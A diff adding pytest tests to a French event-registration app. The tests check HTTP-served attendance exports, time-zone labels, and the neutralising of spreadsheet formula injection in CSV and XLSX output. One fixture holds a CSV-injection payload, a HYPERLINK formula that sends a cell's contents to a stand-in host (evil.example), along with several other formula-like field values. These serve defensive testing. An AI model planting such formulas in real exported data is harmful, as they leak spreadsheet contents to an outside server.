@@ -72,3 +72,89 @@ def test_other_organisers_cannot_export(client, day, other_organiser):
     login(client, email=other_organiser.email)
     assert client.get("/manage/jour/exports/presence.csv").status_code == 403
     assert exports.audit_log(day) == []
+
+
+@pytest.fixture
+def served(app, day):
+    """The app over real HTTP, an organiser signed in with a requests session."""
+    import requests
+
+    from forum.extensions import db
+    from tests.factories import PASSWORD
+    from tests.servers import http_server
+    db.session.remove()
+    with http_server(app) as base:
+        browser = requests.Session()
+        assert browser.post(f"{base}/login", data={"email": "organisatrice@example.org", "password": PASSWORD},
+                            timeout=10).status_code in (200, 302)
+        yield base, browser
+
+
+@pytest.mark.parametrize("delimiter, sep", [("", ","), ("semicolon", ";")])
+def test_attendance_csv_over_http_streams_every_row(served, delimiter, sep):
+    base, browser = served
+    response = browser.get(f"{base}/manage/jour/exports/presence.csv?delimiter={delimiter}", timeout=10)
+    assert response.status_code == 200
+    text = response.content.decode("utf-8")
+    assert text.startswith("\ufeff")
+    rows = list(csv.reader(io.StringIO(text[1:]), delimiter=sep))
+    assert rows[0][:3] == ["id", "nom", "prénom"] and len(rows) == 31
+    assert sorted(r[1] for r in rows[1:]) == [f"Nom{n:02d}é" for n in range(30)]
+
+
+@pytest.mark.parametrize("name", ["presence.xlsx", "ateliers.csv", "ateliers.xlsx", "emargement.pdf"])
+def test_other_exports_over_http_read_back(served, name):
+    base, browser = served
+    response = browser.get(f"{base}/manage/jour/exports/{name}", timeout=10)
+    assert response.status_code == 200
+    if name.endswith(".xlsx"):
+        assert load_workbook(io.BytesIO(response.content)).sheetnames
+    elif name.endswith(".pdf"):
+        assert "Nom00é" in PdfReader(io.BytesIO(response.content)).pages[0].extract_text()
+    else:
+        assert next(csv.reader(io.StringIO(response.content.decode("utf-8")[1:]))) == exports.MEMBERSHIP_HEADER
+
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'
+
+
+@pytest.fixture
+def hostile(organiser):
+    from datetime import datetime
+    event = make_event(organiser, slug="piege", registration_opens_at=None, registration_closes_at=None)
+    r = registration.register(event, person(1, last_name=EVIL, first_name="+33 6", organisation="@SUM(A1)",
+                                            territory="-2+3")).registration
+    service.check_in(event, r, actor=organiser)
+    r.created_at, r.checked_in_at = datetime(2030, 6, 13, 7, 5), datetime(2030, 6, 13, 11, 40)  # UTC, summer
+    from forum.extensions import db
+    db.session.commit()
+    return event
+
+
+def test_csv_cells_that_look_like_formulas_are_neutralised(hostile, organiser):
+    text = "".join(exports.attendance_csv(hostile, actor=organiser))
+    row = list(csv.reader(io.StringIO(text[1:])))[1]
+    assert row[1] == "'" + EVIL and row[2] == "'+33 6" and row[4] == "'@SUM(A1)" and row[6] == "'-2+3"
+
+
+def test_registrations_csv_neutralises_formulas_too(hostile, signed_in):
+    text = signed_in.get("/manage/piege/registrations.csv").get_data(as_text=True)
+    row = list(csv.reader(io.StringIO(text[1:])))[1]
+    assert row[1] == "'" + EVIL and row[4] == "'@SUM(A1)"
+
+
+def test_xlsx_writes_formula_like_names_as_text(hostile, organiser):
+    book = load_workbook(io.BytesIO(exports.attendance_xlsx(hostile, actor=organiser)))
+    cell = book["Confirmés"]["A2"]
+    assert cell.value == EVIL and cell.data_type == "s"
+    assert book["Confirmés"]["D2"].data_type == "s"
+
+
+def test_export_times_are_in_the_events_time_zone_and_say_so(hostile, organiser):
+    text = "".join(exports.attendance_csv(hostile, actor=organiser))
+    rows = list(csv.reader(io.StringIO(text[1:])))
+    header, row = rows[0], rows[1]
+    assert header[10] == "inscrit le (heure de Europe/Paris)" and header[11] == "arrivé à (heure de Europe/Paris)"
+    assert row[10] == "2030-06-13 09:05" and row[11] == "2030-06-13 13:40"
+    sheet = load_workbook(io.BytesIO(exports.attendance_xlsx(hostile, actor=organiser)))["Confirmés"]
+    assert sheet["L1"].value == "Arrivé à (heure de Europe/Paris)" and sheet["L2"].value.strftime("%H:%M") == "13:40"
